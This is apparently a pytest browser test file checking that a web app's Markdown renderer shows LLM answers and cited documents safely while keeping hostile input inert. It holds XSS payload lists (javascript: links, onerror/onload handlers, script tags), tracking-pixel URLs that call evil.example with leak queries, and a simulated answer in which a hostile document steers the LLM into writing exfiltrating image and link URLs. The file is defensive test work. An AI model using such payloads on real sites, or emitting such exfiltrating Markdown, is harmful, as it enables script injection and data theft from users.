"""Markdown on the page (web/markdown.js): answers and cited passages render their code,
lists and emphasis, as the answer streams and without flicker, and whatever a document or an
LLM writes stays inert: raw HTML is text, `javascript:` links are no links, and nothing a
document names is fetched. In Debian's chromium, against the real API, worker and Valkey."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.conftest import REPO, Stack, ingest, make_settings, running_stack
from tests.support.browser import (  # skips the module without chromium or playwright
    ANSWER_DONE,
    Browser,
    Watched,
    ask,
    open_page,
)
from tests.support.documents import add_document

pytestmark = pytest.mark.timeout(60)


# An answer cut into pieces mid-construct: a code span, the emphasis, the list and the fence
# each arrive in two or more token batches.
MARKDOWN_ANSWER = [
    "Use `tr", "y` and **exc", "ept** [1", "]:\n\n- catch ", "*one* error\n",
    "- or several\n\n```py", "thon\ntry:\n    risky()\n", "except ValueError:\n    pass\n```\n",
    "That is all [1].",
]  # fmt: skip


@pytest.fixture
def markdown_llm(llm: Any) -> Iterator[Any]:
    llm.config.answer, llm.config.tokens_per_second = MARKDOWN_ANSWER, 6  # ~1.5 s of streaming
    try:
        yield llm
    finally:
        llm.config.answer = None


async def test_an_answer_renders_its_markdown_as_it_streams_without_flicker(
    stack: Stack, markdown_llm: Any, watched: Watched
) -> None:
    page = watched.page
    await ingest(stack)
    await page.goto(stack.base_url)
    await ask(page, "How long do I brew green tea?")
    # The first paragraph, once on screen, is the same node until the end (it keeps a mark put
    # on it while streaming): later batches are merged into it, never redrawn.
    await page.wait_for_function(
        """() => {
            const first = document.querySelector('#answer > p');
            if (!first || !first.querySelector('code')) return false;
            first.seenWhileStreaming = true; // a property of the node, not an attribute
            return !document.querySelector('[data-stage=done].complete');
        }"""
    )
    await page.wait_for_selector(ANSWER_DONE)
    assert await page.evaluate("() => document.querySelector('#answer > p').seenWhileStreaming")
    structure = await page.evaluate(
        """() => {
            const answer = document.getElementById('answer');
            return {
                code: [...answer.querySelectorAll('p code')].map((c) => c.textContent),
                strong: answer.querySelector('strong')?.textContent,
                items: [...answer.querySelectorAll('ul > li')].map((li) => li.textContent),
                em: answer.querySelector('li em')?.textContent,
                block: answer.querySelector('pre > code')?.textContent,
                font: getComputedStyle(answer.querySelector('pre code')).fontFamily,
                cites: answer.querySelectorAll('button.cite').length,
            };
        }"""
    )
    assert structure == {
        "code": ["try"],
        "strong": "except",
        "items": ["catch one error", "or several"],
        "em": "one",
        "block": "try:\n    risky()\nexcept ValueError:\n    pass\n",
        "font": structure["font"],
        "cites": 2,
    }
    assert "monospace" in structure["font"]
    # The citation split across batches ("[1" then "]") became a link all the same.
    await page.click("#answer button.cite")
    await page.locator("#source-dialog").wait_for(state="visible")


PASSAGE_DOCUMENT = """# Kettles

A gooseneck kettle pours slowly and precisely, which suits pour-over coffee
because the water lands where it is aimed, and the bed of grounds stays
level while it brews.

- **Gooseneck:** slow and precise
- *Electric:* fast

```sh
kettle --heat 93
kettle --pour slowly
```
"""


async def test_a_passage_reads_as_prose_with_its_code_blocks_kept(
    stack: Stack, watched: Watched
) -> None:
    page = watched.page
    await ingest(stack, PASSAGE_DOCUMENT, title="Kettles")
    await page.goto(stack.base_url)
    await ask(page, "Which kettle suits pour-over coffee?")
    await page.wait_for_selector(ANSWER_DONE)
    await page.click("#answer button.cite")
    await page.locator("#source-dialog").wait_for(state="visible")
    passage = await page.evaluate(
        """() => {
            const text = document.getElementById('source-text');
            const prose = [...text.querySelectorAll('p')]
                .find((p) => p.textContent.includes('gooseneck'));
            return {
                prose: prose.innerText,
                breaks: text.querySelectorAll('br').length,
                items: [...text.querySelectorAll('li')].map((li) => li.innerText),
                bold: text.querySelector('li strong')?.textContent,
                code: text.querySelector('pre > code')?.textContent,
                codeFont: getComputedStyle(text.querySelector('pre code')).fontFamily,
                wraps: getComputedStyle(text.querySelector('pre')).whiteSpace,
            };
        }"""
    )
    # The document's hard-wrapped lines are one paragraph, laid out by the browser.
    assert "\n" not in passage["prose"], passage["prose"]
    assert passage["prose"].startswith("A gooseneck kettle pours slowly and precisely, which")
    assert passage["breaks"] == 0
    assert passage["items"] == ["Gooseneck: slow and precise", "Electric: fast"]
    assert passage["bold"] == "Gooseneck:"
    assert passage["code"] == "kettle --heat 93\nkettle --pour slowly\n"
    assert "monospace" in passage["codeFont"] and passage["wraps"] == "pre"


# What a hostile document may try through Markdown; each line's own words tell it apart.
MARKDOWN_PAYLOAD = """# Matcha

Whisk matcha briskly [with a link](javascript:window.__pwned='link') until it foams.

Whisk matcha in a bowl [entity link](&#106;avascript:window.__pwned='entity') for a minute.

Matcha powder keeps ![a tracking pixel](https://evil.example/pixel.png?leak=matcha) in the dark.

Matcha lattes want <img src="https://evil.example/raw.png" onerror="window.__pwned='raw'"> milk.

<svg onload="window.__pwned='svg'"><circle r="4"/></svg>

<iframe src="https://evil.example/frame"></iframe>

Matcha tins [keep it][ref] sealed, see <https://tea.example/matcha> for more.

[ref]: javascript:window.__pwned='reference'
"""

# Through the renderer itself, a wider list; none may leave an element outside marked's set,
# an event handler, a style, or an address that is not http(s) or mailto.
RENDERER_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<a href='javascript:alert(1)'>raw link</a>",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<form action='https://evil.example'><input name=q></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<https://fine.example/path> and <mailto:tea@example.org>",
]
ALLOWED_TAGS = {
    "P", "BR", "HR", "H1", "H2", "H3", "H4", "H5", "H6", "EM", "STRONG", "DEL", "CODE", "PRE",
    "BLOCKQUOTE", "UL", "OL", "LI", "A", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
}  # fmt: skip


async def test_markdown_payloads_stay_inert(valkey: Any, tmp_path: Path, browser: Browser) -> None:
    settings = make_settings(valkey, tmp_path)  # the offline answerer quotes the document
    # Without the page's Content-Security-Policy: the rendering itself must be safe.
    async with running_stack(settings) as stack, open_page(browser, bypass_csp=True) as watched:
        page = watched.page
        await ingest(stack, MARKDOWN_PAYLOAD, title="Matcha")
        await page.goto(stack.base_url)
        await ask(page, "How do I whisk matcha, and what do lattes and tins want?")
        await page.wait_for_selector(ANSWER_DONE)
        await page.hover("#answer button.cite")
        await page.locator("#cite-preview").wait_for(state="visible")
        await page.click("#answer button.cite")
        await page.locator("#source-dialog").wait_for(state="visible")
        await asyncio.sleep(0.5)  # an image's error handler or an onload would have run

        text = str(await page.text_content("#source-text"))
        assert '<img src="https://evil.example/raw.png"' in text  # raw HTML shows as text
        assert "<svg onload=" in text and "<iframe src=" in text
        assert "a tracking pixel" in text  # an image is its alt text
        shown = await page.evaluate(
            """() => [...document.querySelectorAll('#answer, #source-text, #cite-preview')]
                .flatMap((root) => [...root.querySelectorAll('*')])
                .map((e) => ({ tag: e.tagName, attrs: e.getAttributeNames(),
                               href: e.getAttribute('href') }))"""
        )
        tags = {element["tag"] for element in shown}
        assert tags <= ALLOWED_TAGS | {"BUTTON", "MARK", "STRONG", "SPAN"}, tags
        links = [element["href"] for element in shown if element["tag"] == "A"]
        assert links == ["https://tea.example/matcha"], links
        link = page.locator("#source-text a")  # away from the page, telling nothing
        assert await link.get_attribute("target") == "_blank"
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        for element in shown:
            assert not [a for a in element["attrs"] if a.startswith("on") or a == "style"]
        assert await page.evaluate("() => window.__pwned") is None
        assert watched.dialogs == []
        foreign = [r.url for r in watched.requests if urlsplit(r.url).hostname != "127.0.0.1"]
        assert foreign == [], foreign

        rendered = await page.evaluate(
            """async (payloads) => {
                const { markdownFragment } = await import('/static/markdown.js');
                return payloads.map((payload) => {
                    const holder = document.createElement('div');
                    holder.append(markdownFragment(payload));
                    return [...holder.querySelectorAll('*')].map((e) => ({
                        tag: e.tagName, attrs: e.getAttributeNames(), href: e.getAttribute('href'),
                    }));
                });
            }""",
            RENDERER_PAYLOADS,
        )
        await asyncio.sleep(0.3)
        assert await page.evaluate("() => window.__pwned") is None and watched.dialogs == []
    for payload, elements in zip(RENDERER_PAYLOADS, rendered, strict=True):
        for element in elements:
            assert element["tag"] in ALLOWED_TAGS, (payload, element)
            assert set(element["attrs"]) <= {"href", "target", "rel", "start", "align"}, payload
            if element["href"] is not None:
                assert re.match(r"^(https?|mailto):", element["href"]), (payload, element)
    assert [e["href"] for e in rendered[-1] if e["tag"] == "A"] == [
        "https://fine.example/path",
        "mailto:tea@example.org",
    ]


def test_only_the_markdown_module_turns_text_into_elements() -> None:
    """The vendored parser and sanitiser have one user, and no script of ours assigns HTML."""
    for script in (REPO / "web").glob("*.js"):
        source = script.read_text()
        imports_vendor = "./vendor/" in source
        assert imports_vendor == (script.name == "markdown.js"), script.name
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
            assert sink not in source, f"{script.name} uses {sink}"
    licences = {path.name for path in (REPO / "web" / "vendor").iterdir()}
    assert {"marked.LICENSE.md", "dompurify.LICENSE", "dompurify.LICENSE-MPL"} <= licences


# What a hostile document makes the LLM write, about a host its uploader named as its source.
NAMED_HOST_ANSWER = [
    "Matcha [1]. ![pixel](https://named.example/p.png?q=s", "ecret) <img src=\"https://named.",
    'example/raw.png"> <a href="https://named.example/?q=secret">raw</a> [go](https://named.',
    "example/doc?q=secret) [the document](https://named.example/doc).",
]  # fmt: skip


async def test_no_image_or_raw_link_to_a_host_an_uploader_named(
    stack: Stack, llm: Any, watched: Watched
) -> None:
    page = watched.page
    accepted = await add_document(
        stack.client, MARKDOWN_PAYLOAD, title="Matcha", source="https://named.example/doc"
    )
    assert [e async for e in stack.client.follow(accepted["job_id"])][-1].type == "done"
    llm.config.answer = NAMED_HOST_ANSWER
    try:
        await page.goto(stack.base_url)
        await ask(page, "How do I whisk matcha?")
        await page.wait_for_selector(ANSWER_DONE)
    finally:
        llm.config.answer = None
    await asyncio.sleep(0.3)  # an image would have been fetched by now
    answer = await page.evaluate(
        """() => { const answer = document.getElementById('answer');
            return { images: answer.querySelectorAll('img').length, text: answer.textContent,
                     links: [...answer.querySelectorAll('a')].map((a) => a.getAttribute('href')) };
        }"""
    )
    assert answer["images"] == 0 and "<img" not in answer["text"], answer
    assert answer["links"] == ["https://named.example/doc"], answer  # the source's own address
    assert "secret" not in answer["text"] and "raw" in answer["text"], answer
    foreign = [r.url for r in watched.requests if urlsplit(r.url).hostname != "127.0.0.1"]
    assert foreign == [], foreign


async def test_code_wraps_on_a_phone(stack: Stack, llm: Any, watched: Watched) -> None:
    """A long line of code in an answer wraps on a phone instead of scrolling sideways."""
    page = watched.page
    long_line = "pip install --upgrade " + " ".join(f"package-number-{i}" for i in range(12))
    llm.config.answer = ["Run this:\n\n```sh\n", long_line, "\n```\n"]
    try:
        await ingest(stack)
        await page.set_viewport_size({"width": 375, "height": 760})
        await page.goto(stack.base_url)
        await ask(page, "How do I install the packages?")
        await page.wait_for_selector(ANSWER_DONE)
    finally:
        llm.config.answer = None
    code = await page.evaluate(
        """() => {
            const pre = document.querySelector('#answer pre');
            return { text: pre.textContent, wraps: getComputedStyle(pre).whiteSpace,
                     sideways: pre.scrollWidth > pre.clientWidth };
        }"""
    )
    assert long_line in code["text"]
    assert code["wraps"] == "pre-wrap" and not code["sideways"], code
    assert await page.evaluate("() => document.documentElement.scrollWidth") <= 375
